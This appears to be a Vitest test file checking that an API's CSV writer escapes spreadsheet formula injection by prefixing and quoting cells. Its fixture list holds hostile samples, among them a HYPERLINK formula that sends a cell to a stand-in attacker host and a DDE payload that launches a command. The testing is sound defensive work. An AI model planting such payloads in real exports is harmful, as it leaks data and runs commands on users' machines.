import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { toCsv } from '../../api/src/csv.js';

/** What a spreadsheet would run, and harmless variants of it. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\tplain after a tab',
  '  =1+1',
  '\n=1+1',
  '\uFF1D1+1',
  '\uFF0B1',
  '\uFF0D1',
  '\uFF20SUM(A1)',
  '=1+1\nsecond line',
];
const HARMLESS = ['Antrean lama', 'a=b', 'x+y', '1-2', 'nama@contoh.go.id', '', "'already quoted", '"quoted" text', '2026-01-31'];

/** Reads a CSV back: the header and rows of cells. */
const read = (csv: string) => Papa.parse<string[]>(csv, { header: false }).data;

describe('toCsv (every CSV the API writes)', () => {
  it.each(FORMULAS)('writes %j as text: a leading single quote, the whole cell quoted', (value) => {
    const csv = toCsv(['a', 'b'], [[value, 'x']]);
    expect(read(csv)[1]).toEqual([`'${value}`, 'x']);
    expect(csv.split('\r\n')[1]!.startsWith(`"'`)).toBe(true);
  });

  it.each(HARMLESS)('leaves %j as it is', (value) => {
    expect(read(toCsv(['a'], [[value]]))[1]).toEqual([value]);
  });

  it('keeps numbers, negative ones too, as numbers', () => {
    expect(toCsv(['n', 'm'], [[-5, 3.5]])).toBe('n,m\r\n-5,3.5');
  });

  it('quotes separators, quotes and line breaks, doubling quotes', () => {
    expect(toCsv(['a', 'b', 'c'], [['x,y', 'say "hi"', 'one\ntwo']])).toBe('a,b,c\r\n"x,y","say ""hi""","one\ntwo"');
    expect(toCsv(['a'], [['=A1,"B"']])).toBe('a\r\n"\'=A1,""B"""');
  });
});
